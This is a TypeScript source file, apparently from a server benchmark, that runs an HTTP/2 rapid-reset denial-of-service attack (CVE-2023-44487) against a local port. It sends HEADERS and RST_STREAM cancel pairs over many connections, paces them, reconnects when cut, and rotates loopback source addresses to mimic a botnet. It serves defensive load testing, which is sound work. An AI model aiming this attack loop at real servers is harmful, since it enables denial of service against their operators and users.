/**
 * The rapid-reset attacker of the bench's rapid-reset section (CVE-2023-44487, issue 8
 * finding 3), as its own process so that its CPU is not the measured client's:
 * CONNECTIONS h2c connections, each sending HEADERS + RST_STREAM(CANCEL) pairs as fast as
 * it can, reconnecting whenever the server ends it, until PAIRS pairs are sent or MAX_MS
 * has passed; RATE (pairs per second, all connections together) paces it, as the attack of
 * the issue was (18,500 pairs in 16 s), where unset it goes flat out. ADDRESSES=one attacks from 127.0.0.2 (one host); ADDRESSES=rotate takes a
 * fresh 127.0.0.x for every connection (a botnet: per-address cool-down cannot help).
 *
 * Prints one line "attacking" once the first connection is up, and at the end one JSON
 * line with what it achieved.
 */
import http2 from "node:http2";
import net from "node:net";

const port = Number(process.env["TARGET_PORT"]);
const path = process.env["TARGET_PATH"] ?? "/";
const pairs = Number(process.env["PAIRS"] ?? 18_500);
const maxMs = Number(process.env["MAX_MS"] ?? 16_000);
const connections = Number(process.env["CONNECTIONS"] ?? 10);
const rotate = process.env["ADDRESSES"] === "rotate";
const rate = process.env["RATE"] ? Number(process.env["RATE"]) : undefined;

const stats = {
  sent: 0,
  /** Sessions that reached SETTINGS (the server accepted them). */
  sessions: 0,
  /** Connections closed before the server's SETTINGS arrived (refused at accept, or cut). */
  refused: 0,
  goaway: {} as Record<string, number>,
  seconds: 0,
};
const started = performance.now();
const deadline = started + maxMs;
const over = () => stats.sent >= pairs || performance.now() >= deadline;
let nextHost = 10;
const hostFor = () => {
  if (!rotate) return "127.0.0.2";
  // 127.0.0.10 … 127.0.255.254: a new address for every connection.
  const n = nextHost++;
  return `127.0.${Math.floor(n / 254) % 256}.${(n % 254) + 1}`;
};
let announced = false;

/** One connection, until the server ends it (or the attack is over). */
function attackOnce(): Promise<void> {
  return new Promise((resolve) => {
    const localAddress = hostFor();
    const session = http2.connect(`http://127.0.0.1:${port}`, {
      createConnection: () => net.connect({ host: "127.0.0.1", port, localAddress }),
    });
    let up = false;
    // MAX_MS bounds the attack whatever the server does: a connection it neither
    // answers nor closes (a connect waiting in a full accept queue, say) is cut at
    // the deadline instead of holding the attacker past it.
    const cutAtDeadline = setTimeout(() => session.destroy(), Math.max(0, deadline - performance.now()));
    session.on("error", () => {});
    session.once("goaway", (code: number) => (stats.goaway[String(code)] = (stats.goaway[String(code)] ?? 0) + 1));
    session.once("close", () => {
      clearTimeout(cutAtDeadline);
      if (!up) stats.refused++;
      resolve();
    });
    session.once("remoteSettings", async () => {
      up = true;
      stats.sessions++;
      if (!announced) {
        announced = true;
        process.stdout.write("attacking\n");
      }
      let goneAway = false;
      session.once("goaway", () => (goneAway = true));
      while (!over() && !goneAway && !session.closed && !session.destroyed) {
        try {
          const stream = session.request({ ":method": "POST", ":path": path, "content-type": "application/grpc", te: "trailers" });
          stream.on("error", () => {});
          stream.close(http2.constants.NGHTTP2_CANCEL);
          stats.sent++;
        } catch {
          break;
        }
        // Let the frames go out (and a GOAWAY come in) every few pairs; paced, wait for the schedule.
        if (rate !== undefined) {
          while (!over() && stats.sent >= ((performance.now() - started) / 1000) * rate) await new Promise((r) => setTimeout(r, 2));
        } else if (stats.sent % 20 === 0) await new Promise((r) => setImmediate(r));
      }
      session.destroy();
    });
  });
}

async function connection(): Promise<void> {
  while (!over()) {
    await attackOnce();
    // A refused connection is retried at once: that is what a reconnecting attacker does.
  }
}

await Promise.all(Array.from({ length: connections }, connection));
stats.seconds = (performance.now() - started) / 1000;
if (!announced) process.stdout.write("attacking\n");
process.stdout.write(JSON.stringify(stats) + "\n");
